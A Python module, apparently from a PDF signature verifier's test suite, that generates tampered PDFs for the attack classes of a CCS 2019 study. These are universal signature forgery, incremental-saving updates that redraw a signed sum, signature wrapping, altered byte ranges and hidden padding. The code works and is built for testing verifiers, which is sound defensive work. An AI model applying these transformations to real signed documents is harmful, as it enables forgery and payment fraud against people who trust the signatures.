"""Attacks on the bytes: "1 Trillion Dollar Refund" (Mladenov, Mainka et al., CCS 2019)."""

import re
from collections.abc import Callable, Iterator

RANGE = re.compile(rb"/ByteRange ?\[[^\]]*\] *")
CONTENTS = re.compile(rb"/Contents ?<[0-9A-Fa-f]*>")


def last(pattern: re.Pattern[bytes], data: bytes) -> re.Match[bytes]:
    return list(pattern.finditer(data))[-1]


def instead(pattern: re.Pattern[bytes], text: bytes) -> Callable[[bytes], bytes]:
    """Put ``text`` in place of what the pattern finds in the last signature, filled with spaces to the same length."""

    def change(data: bytes) -> bytes:
        found = last(pattern, data)
        assert len(text) <= len(found[0])
        return data[: found.start()] + text.ljust(len(found[0])) + data[found.end() :]

    return change


# Universal signature forgery: what the verifier needs is missing, empty or absurd.
UNIVERSAL = {
    "no-contents": instead(CONTENTS, b""),
    "contents-null": instead(CONTENTS, b"/Contents null"),
    "contents-empty": instead(CONTENTS, b"/Contents <>"),
    "contents-zero": instead(CONTENTS, b"/Contents <00>"),
    "contents-text": instead(CONTENTS, b"/Contents (signed)"),
    "contents-number": instead(CONTENTS, b"/Contents 0"),
    "no-byte-range": instead(RANGE, b""),
    "byte-range-null": instead(RANGE, b"/ByteRange null"),
    "byte-range-empty": instead(RANGE, b"/ByteRange []"),
    "byte-range-one": instead(RANGE, b"/ByteRange [0]"),
    "byte-range-zeros": instead(RANGE, b"/ByteRange [0 0 0 0]"),
    "byte-range-negative": instead(RANGE, b"/ByteRange [0 -1 -1 -1]"),
    "byte-range-huge": instead(RANGE, b"/ByteRange [0 9999999999 9 9]"),
    "byte-range-text": instead(RANGE, b"/ByteRange (0 10 20 30)"),
    "byte-range-names": instead(RANGE, b"/ByteRange [/a /b /c /d]"),
    "byte-range-references": instead(RANGE, b"/ByteRange [9 0 R 1 0 R]"),
    "byte-range-six": instead(RANGE, b"/ByteRange [0 1 2 3 4 5]"),
}


def _objects(data: bytes) -> bytes:
    """The body of an update that draws another sum, at offsets behind ``data``."""
    content = b"BT /F 18 Tf 40 120 Td (Honoraires : 900 euros) Tj ET"
    return b"\n4 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (len(content), content)


def _xref(data: bytes, place: int, *, previous: bool = True) -> bytes:
    old = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    prev = b"/Prev %d" % old if previous else b""
    start = b"xref\n4 1\n%010d 00000 n \n" % place
    return start + b"trailer\n<</Size 60/Root 1 0 R" + prev + b">>\n"


def saving(
    *, xref: bool, start: bool, marker: bool, copy: bool = False, comment: bool = False
) -> Callable[[bytes], bytes]:
    """Incremental saving: an update behind the signature, whole or with parts left out."""

    def change(data: bytes) -> bytes:
        body = (b"%%EOF\n% harmless\n" if comment else b"") + _objects(data)
        place = len(data) + body.index(b"4 0 obj")
        if copy:
            found = last(RANGE, data)
            begin = data.rindex(b" obj", 0, found.start())
            begin = data.rindex(b"\n", 0, begin - 4) + 1
            body += data[begin : data.index(b"endobj", found.end()) + 7]
        table = len(data) + len(body)
        body += _xref(data, place) if xref else b""
        body += b"startxref\n%d\n" % (table if xref else 0) if start else b""
        return data + body + (b"%%EOF\n" if marker else b"")

    return change


SAVING = {
    "whole": saving(xref=True, start=True, marker=True),
    "without-xref": saving(xref=False, start=True, marker=True),
    "without-startxref": saving(xref=True, start=False, marker=True),
    "body-alone": saving(xref=False, start=False, marker=False),
    "without-marker": saving(xref=True, start=True, marker=False),
    "copied-signature": saving(xref=True, start=True, marker=True, copy=True),
    "behind-a-comment": saving(xref=True, start=True, marker=True, comment=True),
}


def wrapping(*, duplicate: bool, padding: bytes) -> Callable[[bytes], bytes]:
    """Signature wrapping: the second signed part is moved to the end, its place taken by other objects.

    The new byte range stands in the gap that no signature covers, as a second key.
    """

    def change(data: bytes) -> bytes:
        found = last(CONTENTS, data)
        begin, end = found.end() - len(found[0].split(b"<", 1)[1]) - 1, found.end()
        first, gap, second = data[:begin], data[begin:end], data[end:]
        der = gap.rstrip(b"0>")
        der += b"0" * (1 - len(der) % 2)
        body = _objects(data)
        inserted = len(body) + 40
        moved = b">/ByteRange [0 %d %d %d]" % (begin, end + inserted, len(second))
        tail = b"/Pad <" if duplicate else b"%"
        filled = der + moved + tail
        gap = filled + padding * ((len(gap) - len(filled) - 1) // len(padding))
        gap = gap[: end - begin - 1].ljust(end - begin - 1, b"0") + b">"
        return first + gap + body.ljust(inserted) + second

    return change


def other_range(change: Callable[[int, int, int, int], tuple[int, int, int, int]]) -> Callable[[bytes], bytes]:
    """Replace the byte range by one that overlaps, leaves out more, or ends elsewhere."""

    def attack(data: bytes) -> bytes:
        found = last(RANGE, data)
        a, b, c, d = (int(one) for one in re.findall(rb"\d+", found[0]))
        text = b"/ByteRange [%d %d %d %d]" % change(a, b, c, d)
        return instead(RANGE, text)(data)

    return attack


WRAPPING = {
    "moved": wrapping(duplicate=True, padding=b"0"),
    "moved-comment": wrapping(duplicate=False, padding=b"0"),
    "gap-larger": other_range(lambda a, b, c, d: (a, b - 20, c, d)),
    "overlap": other_range(lambda a, b, c, d: (a, b, b - 10, d)),
    "begins-later": other_range(lambda a, b, c, d: (10, b - 10, c, d)),
    "ends-earlier": other_range(lambda a, b, c, d: (a, b, c, d - 50)),
    "past-the-end": other_range(lambda a, b, c, d: (a, b, c, d + 5000)),
}


def padded(data: bytes) -> bytes:
    """Something hidden in the padding of /Contents, which no signature covers."""
    found = last(CONTENTS, data)
    return data[: found.end() - 41] + b"deadbeef" * 5 + data[found.end() - 1 :]


def every() -> Iterator[tuple[str, Callable[[bytes], bytes]]]:
    for group, attacks in (("usf", UNIVERSAL), ("isa", SAVING), ("swa", WRAPPING)):
        for name, change in attacks.items():
            yield f"{group}-{name}", change
    yield "padding", padded
